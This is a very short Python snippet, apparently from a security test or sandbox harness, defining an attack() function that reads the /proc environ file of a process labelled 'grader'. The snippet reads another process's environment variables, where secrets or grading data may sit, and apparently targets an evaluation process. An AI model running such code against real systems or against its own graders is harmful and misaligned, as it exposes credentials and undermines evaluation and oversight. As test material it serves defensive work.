"""Reads the environment of the grader."""


def attack():
    return open(f"/proc/{TARGETS['grader']}/environ", "rb").read()
